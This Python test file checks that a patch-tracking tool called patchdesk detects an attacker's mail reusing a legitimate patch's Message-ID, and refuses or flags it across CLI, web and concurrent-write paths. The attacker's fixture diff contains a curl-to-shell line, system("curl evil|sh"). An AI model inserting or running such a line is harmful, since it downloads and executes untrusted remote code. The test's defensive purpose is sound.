"""A reused Message-ID cannot move or spoof a patch (issue 17, item 1).

Good Dev posts a two-patch series; Eve sends another mail with the same
Message-ID as patch 1 and a hostile diff, before or after.  Whatever the
order, and after ``rebuild``, Good Dev's series holds Good Dev's two
patches, ``am`` refuses it while a member is contested (and emits Good
Dev's diff when told which message to trust), and ``show`` names both
claimants."""

import json

import pytest
from typer.testing import CliRunner

from mailgen import make_mail, mbox, patch_body
from patchdesk.cli import app

runner = CliRunner()
GOOD = "Good Dev <good@example.com>"
EVE = "Eve <eve@example.net>"


def series_mails():
    cover = make_mail("legit-0@example.com", "[PATCH 0/2] frob: fixes", sender=GOOD,
                      date="Mon, 02 Nov 2026 10:00:00 +0000", body="Two fixes.\n")
    p1 = make_mail("legit-1@example.com", "[PATCH 1/2] frob: fix the first thing", sender=GOOD,
                   date="Mon, 02 Nov 2026 10:00:01 +0000", refs=("legit-0@example.com",),
                   body=patch_body("Fix one.", "src/frob.c", "return 0;", "return good_one();"))
    p2 = make_mail("legit-2@example.com", "[PATCH 2/2] frob: fix the second thing", sender=GOOD,
                   date="Mon, 02 Nov 2026 10:00:02 +0000", refs=("legit-0@example.com",),
                   body=patch_body("Fix two.", "src/frob.c", "return 1;", "return good_two();", line=40))
    return [cover, p1, p2]


def eve_mail():
    return make_mail("legit-1@example.com", "[PATCH 1/2] frob: fix the first thing", sender=EVE,
                     date="Mon, 02 Nov 2026 11:00:00 +0000",
                     body=patch_body("Fix one.", "src/frob.c", "return 0;", "system(\"curl evil|sh\");"))


def run(db, *args):
    return runner.invoke(app, ["--db", str(db), *args])


@pytest.mark.parametrize("eve_first", [False, True])
def test_a_reused_message_id_neither_moves_nor_spoofs_a_patch(tmp_path, eve_first):
    good, eve = series_mails(), eve_mail()
    mails = [eve, *good] if eve_first else [*good, eve]
    (tmp_path / "list.mbox").write_bytes(mbox(mails))
    db = tmp_path / "s.db"
    result = run(db, "ingest", str(tmp_path / "list.mbox"), "--json", "--jobs", "1")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["stored"] == 4
    for rebuilt in (False, True):
        if rebuilt:
            assert run(db, "rebuild").exit_code == 0
        refused = run(db, "am", "legit-0@example.com")
        assert refused.exit_code == 1
        assert "claimed by another message too" in refused.output and "eve@example.net" in refused.output
        shown = run(db, "show", "legit-0@example.com")
        assert "Eve <eve@example.net>" in shown.output and "Message-ID also claimed" in shown.output
        trusted = run(db, "am", "legit-0@example.com", "--trust", "legit-1@example.com")
        if eve_first:  # Good Dev's patch 1 is the later claimant: its own stored name
            assert trusted.exit_code == 1 and "not a member" in trusted.output
            member = [line for line in shown.output.split("\n") if "legit-1@example.com~" in line]
            assert member, shown.output
            name = member[0].split("legit-1@example.com~")[1][:12]
            trusted = run(db, "am", "legit-0@example.com", "--trust", f"legit-1@example.com~{name}")
        assert trusted.exit_code == 0, trusted.output
        assert "good_one()" in trusted.stdout and "good_two()" in trusted.stdout
        assert "evil" not in trusted.stdout and trusted.stdout.count("good_one()") == 1
        assert "From: Good Dev" in trusted.stdout and "Eve" not in trusted.stdout


def test_pages_show_both_claimants(tmp_path):
    from fastapi.testclient import TestClient

    from patchdesk.web.app import create_app

    (tmp_path / "list.mbox").write_bytes(mbox([*series_mails(), eve_mail()]))
    db = tmp_path / "s.db"
    assert run(db, "ingest", str(tmp_path / "list.mbox"), "--jobs", "1").exit_code == 0
    client = TestClient(create_app(str(db)))
    page = client.get("/patch/legit-1@example.com")
    assert page.status_code == 200
    assert "Message-ID contested" in page.text and "eve@example.net" in page.text and "good@example.com" in page.text
    assert "good_one()" in page.text and "evil" not in page.text  # the stored message's own diff
    assert page.headers["content-security-policy"]


def test_two_writers_at_once_cannot_both_keep_a_message_id(engine, monkeypatch):
    """Two processes store Good Dev's patch and Eve's copy in the same
    instant (PostgreSQL, read committed): each looks the Message-ID up
    before the other has committed.  One must still end up the claimant.
    The pause after the lookup lets the other writer in, if it can get in."""
    import threading

    from patchdesk.pipeline.live import LiveDesk
    from patchdesk.store import messages
    lookup, arrived = messages.existing_msgids, threading.Barrier(2)

    def slow_lookup(conn, msgids):
        found = lookup(conn, msgids)
        try:
            arrived.wait(timeout=3)  # both writers read before either writes, unless one is held off
        except threading.BrokenBarrierError:
            pass
        return found
    monkeypatch.setattr(messages, "existing_msgids", slow_lookup)
    desks = [LiveDesk(engine, "lmtp://a"), LiveDesk(engine, "lmtp://b")]
    mails = [series_mails()[1], eve_mail()]
    done = []
    writers = [threading.Thread(target=lambda d=d, m=m: done.append(d.store(m))) for d, m in zip(desks, mails)]
    for w in writers:
        w.start()
    for w in writers:
        w.join()
    for d in desks:
        d.preparer.close()
    assert sorted(d.outcome for d in done) == ["stored", "stored"]
    from sqlalchemy import text
    with engine.connect() as conn:
        names = sorted(m for (m,) in conn.execute(text("SELECT msgid FROM messages")))
        flagged = conn.execute(text("SELECT count(*) FROM messages WHERE msgid_conflict")).scalar()
    assert names[0] == "legit-1@example.com" and names[1].startswith("legit-1@example.com~") and flagged == 2
